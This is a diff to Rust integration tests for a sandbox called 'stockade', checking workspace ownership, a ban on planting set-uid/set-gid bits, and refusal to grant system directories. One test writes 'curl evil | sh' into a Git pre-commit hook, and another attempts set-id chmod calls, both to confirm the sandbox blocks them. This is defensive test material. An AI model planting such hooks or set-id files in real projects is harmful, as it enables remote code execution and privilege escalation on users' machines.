@@ -10,23 +10,13 @@ use stockade_protocol::{Access, Job, Mechanism, Status};
 
 use crate::support::*;
 
-/// A host directory the guest may be given; owned by the guest uid when we run as root.
+/// A host directory the guest may be given, owned by whoever runs the tests (as a user's
+/// project directory is): the tier makes it the guest's own.
 fn host_dir(tag: &str) -> std::path::PathBuf {
     let dir = std::env::temp_dir().join(format!("stockade-it-{tag}-{}", std::process::id()));
     let _ = std::fs::remove_dir_all(&dir);
     std::fs::create_dir_all(&dir).unwrap();
-    if is_root() {
-        std::os::unix::fs::chown(&dir, Some(stockade_process::NOBODY), Some(stockade_process::NOBODY)).unwrap();
-    }
     dir
-}
-
-fn is_root() -> bool {
-    std::fs::read_to_string("/proc/self/status")
-        .unwrap()
-        .lines()
-        .find_map(|l| l.strip_prefix("Uid:"))
-        .is_some_and(|ids| ids.split_whitespace().nth(1) == Some("0"))
 }
 
 const PROBE: &str = r#"
@@ -433,12 +423,6 @@ fn g10_protected_paths_in_a_writable_workspace_stay_read_only() {
     std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
     std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
     std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
-    if is_root() {
-        for p in [".git", ".git/hooks", ".git/config", ".bashrc"] {
-            std::os::unix::fs::chown(ws.join(p), Some(stockade_process::NOBODY), Some(stockade_process::NOBODY))
-                .unwrap();
-        }
-    }
     let job = probe_py(
         r#"
 attempt("hook", lambda: open("/workspace/.git/hooks/pre-commit", "w").write("curl evil | sh"))
@@ -536,4 +520,142 @@ print("init fds", len(links("/proc/1/fd")))
     let net = r.enforcement.iter().find(|e| e.mechanism == Mechanism::NetNamespace).unwrap();
     assert!(net.detail.contains("127.0.0.1:8765"), "{}", net.detail);
     let _ = std::fs::remove_dir_all(&grants);
+}
+
+/// Mode bits of every entry under `dir`, recursively, with its owner.
+fn modes(dir: &Path) -> Vec<(std::path::PathBuf, u32, u32, u32)> {
+    use std::os::unix::fs::MetadataExt;
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(dir).unwrap().flatten() {
+        let m = std::fs::symlink_metadata(e.path()).unwrap();
+        out.push((e.path(), m.mode(), m.uid(), m.gid()));
+        if m.is_dir() {
+            out.extend(modes(&e.path()));
+        }
+    }
+    out
+}
+
+#[test]
+fn g13_a_private_workspace_of_the_invoking_user_is_the_guests_own() {
+    require!("g13_a_private_workspace_of_the_invoking_user_is_the_guests_own");
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    let (me, my_gid) = {
+        let m = std::fs::metadata("/proc/self").unwrap();
+        (m.uid(), m.gid())
+    };
+    // A 0700 directory two levels under another 0700 directory, holding a 0600 file: what
+    // `mktemp -d` makes, and what a project under /root looks like.
+    let outer = host_dir("ws-private");
+    let ws = outer.join("deeper/ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join("secret-input"), "only mine").unwrap();
+    for (p, mode) in [(&outer, 0o700), (&outer.join("deeper"), 0o700), (&ws, 0o700)] {
+        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
+    }
+    std::fs::set_permissions(ws.join("secret-input"), std::fs::Permissions::from_mode(0o600)).unwrap();
+    let body = r#"
+st = os.stat("/workspace/secret-input")
+print("me", os.getuid(), "owner", st.st_uid)
+attempt("list", lambda: print("entries", sorted(os.listdir("/workspace"))))
+attempt("read", lambda: print("content", open("/workspace/secret-input").read()))
+attempt("write", lambda: open("/workspace/made-by-guest", "w").write("out"))
+attempt("mkdir", lambda: os.mkdir("/workspace/dir-by-guest"))
+attempt("edit", lambda: open("/workspace/secret-input", "a").write(" and theirs"))
+"#;
+    let r = run(probe_py(body).with_workspace(&ws, Access::ReadWrite).unwrap());
+    let out = stdout(&r);
+    assert_eq!(r.status, Status::Exited { code: 0 }, "{out} {}", stderr(&r));
+    let ids: Vec<&str> = line(&out, "me").split_whitespace().collect();
+    assert_ne!(ids[0], "0", "the guest runs as uid 0: {out}");
+    assert_eq!(ids[0], ids[2], "the guest does not own the invoking user's files: {out}");
+    assert!(out.contains("entries ['secret-input']") && out.contains("content only mine"), "{out}");
+    for label in ["list", "read", "write", "mkdir", "edit"] {
+        assert_eq!(line(&out, label), "OK", "{label}: {out}");
+    }
+    // On the host, what the guest made belongs to the invoking user.
+    for name in ["made-by-guest", "dir-by-guest", "secret-input"] {
+        let m = std::fs::metadata(ws.join(name)).unwrap();
+        assert_eq!((m.uid(), m.gid()), (me, my_gid), "{name} is owned by {}:{}", m.uid(), m.gid());
+    }
+    assert_eq!(std::fs::read_to_string(ws.join("secret-input")).unwrap(), "only mine and theirs");
+    // Read-only, the same directory can be read and not written.
+    let body = body.replace("-by-guest", "-by-guest-2");
+    let r = run(probe_py(&body).with_workspace(&ws, Access::ReadOnly).unwrap());
+    let out = stdout(&r);
+    assert_eq!(line(&out, "read"), "OK", "{out}");
+    for label in ["write", "mkdir", "edit"] {
+        assert_eq!(line(&out, label), "EROFS", "{label}: {out}");
+    }
+    let _ = std::fs::remove_dir_all(&outer);
+}
+
+#[test]
+fn g13_set_id_bits_cannot_be_planted_in_a_workspace() {
+    require!("g13_set_id_bits_cannot_be_planted_in_a_workspace");
+    let ws = host_dir("ws-setid");
+    let body = r##"
+open("/workspace/tool", "w").write("#!/bin/sh\nid\n")
+attempt("chmod_suid", lambda: os.chmod("/workspace/tool", 0o4755))
+attempt("chmod_sgid", lambda: os.chmod("/workspace/tool", 0o2755))
+attempt("fchmod_suid", lambda: os.fchmod(os.open("/workspace/tool", os.O_RDONLY), 0o6755))
+attempt("create_suid", lambda: os.open("/workspace/made-suid", os.O_CREAT | os.O_WRONLY, 0o4755))
+attempt("mkfifo_sgid", lambda: os.mkfifo("/workspace/fifo", 0o2644))
+attempt("chmod_plain", lambda: os.chmod("/workspace/tool", 0o755))
+attempt("create_plain", lambda: os.open("/workspace/plain", os.O_CREAT | os.O_WRONLY, 0o755))
+attempt("open_plain", lambda: os.open("/workspace/plain", os.O_RDONLY, 0o4755))
+"##;
+    let r = run(probe_py(body).with_workspace(&ws, Access::ReadWrite).unwrap());
+    let out = stdout(&r);
+    for label in ["chmod_suid", "chmod_sgid", "fchmod_suid", "create_suid", "mkfifo_sgid"] {
+        assert_eq!(line(&out, label), "EPERM", "{label}: {out}");
+    }
+    for label in ["chmod_plain", "create_plain", "open_plain"] {
+        assert_eq!(line(&out, label), "OK", "{label}: {out}");
+    }
+    // Judged on the host: no set-id bit anywhere in the workspace.
+    let entries = modes(&ws);
+    assert!(entries.iter().any(|(p, m, _, _)| p.ends_with("tool") && m & 0o777 == 0o755), "{entries:?}");
+    for (p, mode, _, _) in &entries {
+        assert_eq!(mode & 0o6000, 0, "{} has a set-id bit: {mode:o}", p.display());
+    }
+    let _ = std::fs::remove_dir_all(&ws);
+}
+
+#[test]
+fn g13_only_dedicated_directories_are_granted() {
+    require!("g13_only_dedicated_directories_are_granted");
+    let link_dir = host_dir("ws-link-etc");
+    std::os::unix::fs::symlink("/etc", link_dir.join("etc")).unwrap();
+    let linked = link_dir.join("etc");
+    let refused = |path: &Path, access: Access| {
+        let job = sh("true").with_workspace(path, access).unwrap();
+        match block_on(tier().run(&job)) {
+            Err(stockade_process::LaunchError::Misconfigured(m)) => m,
+            other => panic!("{} was granted: {other:?}", path.display()),
+        }
+    };
+    for (path, access) in [
+        (Path::new("/etc"), Access::ReadWrite),
+        (Path::new("/etc"), Access::ReadOnly),
+        (Path::new("/"), Access::ReadOnly),
+        (Path::new("/usr/lib"), Access::ReadOnly),
+        (Path::new("/tmp"), Access::ReadWrite),
+        (Path::new("/root"), Access::ReadOnly),
+        (Path::new("/var/lib"), Access::ReadOnly),
+    ] {
+        let m = refused(path, access);
+        assert!(m.starts_with(&format!("workspace {} cannot be granted: ", path.display())), "{m}");
+        assert!(!m.contains('\n'), "{m}");
+    }
+    // A symlink is judged by where it leads.
+    let m = refused(&linked, Access::ReadWrite);
+    assert!(m.starts_with("workspace /etc cannot be granted: it is a system directory"), "{m}");
+    // A missing path names the path and the reason.
+    let m = refused(&link_dir.join("absent"), Access::ReadOnly);
+    assert!(m.contains("absent") && m.contains("No such file or directory"), "{m}");
+    // A directory inside /tmp is dedicated.
+    let ok = run(sh("ls /workspace").with_workspace(&link_dir, Access::ReadOnly).unwrap());
+    assert_eq!(stdout(&ok), "etc\n");
+    let _ = std::fs::remove_dir_all(&link_dir);
 }
